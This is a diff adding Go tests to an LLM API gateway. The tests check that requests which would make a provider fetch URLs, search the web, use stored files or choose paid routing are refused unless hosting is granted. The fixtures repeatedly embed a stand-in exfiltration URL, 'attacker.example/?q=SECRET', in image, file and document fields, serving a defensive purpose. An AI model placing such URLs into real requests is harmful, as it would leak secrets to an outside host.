@@ -1,9 +1,11 @@
 package gateway
 
 import (
+	"bytes"
 	"encoding/base64"
 	"encoding/json"
 	"errors"
+	"os"
 	"strings"
 	"testing"
 
@@ -11,7 +13,7 @@ import (
 )
 
 func to(k wire.Provider, model string) target {
-	return target{provider: &provider{Provider: Provider{Kind: k}}, Route: wire.Route{Model: model}}
+	return target{provider: &provider{Provider: Provider{Kind: k}}, Route: wire.Route{Form: k.Form(""), Model: model}}
 }
 
 func TestInspect(t *testing.T) {
@@ -89,6 +91,9 @@ func TestInspect(t *testing.T) {
 			k = wire.OpenAI
 		}
 		tt := to(k, c.model)
+		if strings.Contains(c.body, `"input":`) {
+			tt.Form = wire.Responses
+		}
 		f, err := inspect(tt, []byte(c.body))
 		if (err == nil) != (c.want != "") || errors.Is(err, errHidden) != c.hidden {
 			t.Errorf("%s: %v", c.name, err)
@@ -101,6 +106,124 @@ func TestInspect(t *testing.T) {
 		if _, err := inspect(tt, []byte(c.body)); c.hosted && err != nil {
 			t.Errorf("%s: refused although it is granted: %v", c.name, err)
 		}
+	}
+}
+
+// TestNoProviderFetchesOrStores: what a request would have its provider fetch, search, look up or charge otherwise is
+// refused by its name, in every form, also where tokens are only counted. What is granted (Hosted) passes.
+func TestNoProviderFetchesOrStores(t *testing.T) {
+	chat := func(part string) string { return `{"model":"a","messages":[{"role":"user","content":[` + part + `]}]}` }
+	responses := func(item string) string { return `{"model":"a","input":[` + item + `]}` }
+	messages := func(block string) string {
+		return `{"model":"a","messages":[{"role":"user","content":[` + block + `]}]}`
+	}
+	gemini := func(part string) string { return `{"contents":[{"role":"user","parts":[` + part + `]}]}` }
+	const at = `"https://attacker.example/?q=SECRET"`
+	for _, c := range []struct {
+		form   wire.Form
+		body   string
+		named  string
+		hosted bool
+	}{
+		{wire.Chat, chat(`{"type":"image_url","image_url":{"url":` + at + `}}`), "url", true},
+		{wire.Chat, chat(`{"type":"image_url","image_url":` + at + `}`), "imageurl", true},
+		{wire.Chat, chat(`{"type":"text","text":"x"},{"type":"file","file":{"file_data":` + at + `}}`), "filedata", true},
+		{wire.Chat, chat(`{"type":"file","file":{"file_id":"file-1"}}`), "fileid", true},
+		{wire.Chat, chat(`{"type":"document_url","document_url":` + at + `}`), "document_url", true},
+		{wire.Chat, chat(`{"type":"input_audio","input_audio":{"data":` + at + `}}`), "input_audio", true},
+		{wire.Chat, `{"model":"a","web_search_options":{}}`, "websearchoptions", true},
+		{wire.Chat, `{"model":"a","plugins":[{"id":"web"}]}`, "plugins", true},
+		{wire.Chat, `{"model":"a","search_parameters":{"sources":[{"type":"rss","links":[` + at + `]}]}}`, "searchparameters", true},
+		{wire.Chat, `{"model":"a","enable_search":true}`, "enablesearch", true},
+		{wire.Chat, `{"model":"x:online"}`, "x:online", true},
+		{wire.Chat, `{"model":"perplexity/sonar-pro"}`, "sonar", true},
+		{wire.Chat, `{"model":"a","models":["dear"]}`, "models", false},
+		{wire.Chat, `{"model":"a","provider":{"order":["dear"]}}`, "provider", false},
+		{wire.Chat, `{"model":"a","service_tier":"priority"}`, "servicetier", false},
+		{wire.Chat, `{"model":"a","service_tier":"\u0070riority"}`, "servicetier", false},
+		{wire.Chat, `{"model":"a","modalities":["text","audio"]}`, "modalities", false},
+		{wire.Chat, `{"model":"a","extra_body":{}}`, "extrabody", false},
+		{wire.Responses, responses(`{"role":"user","content":[{"type":"input_file","file_url":` + at + `}]}`), "fileurl", true},
+		{wire.Responses, responses(`{"role":"user","content":[{"type":"input_image","Image_URL":` + at + `}]}`), "imageurl", true},
+		{wire.Responses, responses(`{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":` + at + `}]}`), "imageurl", true},
+		{wire.Responses, responses(`{"type":"item_reference","id":"msg_1"}`), "item_reference", true},
+		{wire.Responses, responses(`{"type":"mcp_approval_response","approve":true}`), "mcp_approval_response", true},
+		{wire.Responses, `{"model":"a","prompt":{"id":"p"}}`, "prompt", false},
+		{wire.Messages, messages(`{"type":"image","source":{"type":"url","url":` + at + `}}`), `"url"`, true},
+		{wire.Messages, messages(`{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"url":` + at + `}}]}`), "url", true},
+		{wire.Messages, messages(`{"type":"document","source":{"type":"file","file_id":"f"}}`), `"file"`, true},
+		{wire.Messages, messages(`{"type":"container_upload","file_id":"f"}`), "container_upload", true},
+		{wire.Messages, messages(`{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"type":"web_fetch_20250910","name":"f"}}}`), "web_fetch", true},
+		{wire.Messages, `{"model":"a","container":{"skills":[{"type":"anthropic"}]}}`, "container", true},
+		{wire.Messages, `{"model":"a","speed":"fast"}`, "speed", false},
+		{wire.Messages, `{"model":"a","fallbacks":[{"model":"dear"}]}`, "fallbacks", false},
+		{wire.Messages, `{"model":"a","inference_geo":"us"}`, "inferencegeo", false},
+		{wire.Gemini, gemini(`{"fileData":{"fileUri":` + at + `}}`), "filedata", true},
+		{wire.Gemini, gemini(`{"functionResponse":{"name":"f","response":{"url":` + at + `},"parts":[{"file_data":{"file_uri":` + at + `}}]}}`), "filedata", true},
+		{wire.Gemini, `{"systemInstruction":{"parts":[{"fileData":{}}]}}`, "filedata", true},
+		{wire.Gemini, `{"generationConfig":{"responseModalities":["TEXT","IMAGE"]}}`, "responsemodalities", false},
+		{wire.Gemini, `{"generationConfig":{"routingConfig":{"autoMode":{}}}}`, "routingconfig", false},
+		{wire.Gemini, `{"generateContentRequest":` + gemini(`{"fileData":{"fileUri":`+at+`}}`) + `}`, "filedata", true},
+	} {
+		for _, form := range []wire.Form{c.form, wire.Free} {
+			tt := to(c.form.Provider(), "")
+			if tt.Form = form; tt.Kind == wire.Google {
+				tt.Model = "g"
+			}
+			if form == wire.Free && tt.Kind == wire.OpenAI {
+				continue // it has no such request
+			}
+			if _, err := inspect(tt, []byte(c.body)); !errors.Is(err, errHidden) || !strings.Contains(err.Error(), c.named) {
+				t.Errorf("%s %s: %v", form, c.body, err)
+			}
+			tt.Hosted = true
+			if _, err := inspect(tt, []byte(c.body)); (err == nil) != c.hosted {
+				t.Errorf("%s %s, granted: %v", form, c.body, err)
+			}
+		}
+	}
+	for form, body := range map[wire.Form]string{
+		wire.Chat: chat(`{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}},{"type":"text","text":` + at + `}`),
+		wire.Responses: responses(`{"type":"function_call","name":"fetch","arguments":"{\"url\":\"https://x\"}"},` +
+			`{"type":"function_call_output","output":[{"type":"input_image","image_url":"data:image/png;base64,AA"}]}`),
+		wire.Messages: messages(`{"type":"tool_use","name":"fetch","input":{"url":` + at + `,"type":"x"}},` +
+			`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA"}}`),
+		wire.Gemini: gemini(`{"functionCall":{"name":"fetch","args":{"fileUri":` + at + `}}},{"inlineData":{"mimeType":"image/png","data":"AA"}}`),
+	} {
+		tt := to(form.Provider(), "g")
+		tt.Form = form
+		if _, err := inspect(tt, []byte(body)); err != nil {
+			t.Errorf("%s: %v", body, err)
+		}
+	}
+}
+
+// TestWhatAgentsSendPasses: the shapes of requests that the programs of the catalog made (texts are cut).
+func TestWhatAgentsSendPasses(t *testing.T) {
+	raw, err := os.ReadFile("testdata/requests.jsonl")
+	if err != nil {
+		t.Fatal(err)
+	}
+	agents := map[string]bool{}
+	for line := range bytes.Lines(raw) {
+		var r struct {
+			Agent, Path string
+			Body        json.RawMessage
+		}
+		if err := json.Unmarshal(line, &r); err != nil {
+			t.Fatal(err)
+		}
+		name, rest, _ := strings.Cut(strings.TrimPrefix(r.Path, "/"), "/")
+		path, _, _ := strings.Cut(rest, "?")
+		tt := target{provider: &provider{Provider: Provider{Kind: wire.Provider(name)}}}
+		tt.Route, _ = tt.Kind.Route("POST", "/"+path)
+		if _, err := inspect(tt, r.Body); err != nil || tt.Form == "" {
+			t.Errorf("%s %s: %v\n%s", r.Agent, r.Path, err, r.Body)
+		}
+		agents[r.Agent] = true
+	}
+	if len(agents) < 6 {
+		t.Errorf("only %v", agents)
 	}
 }
 
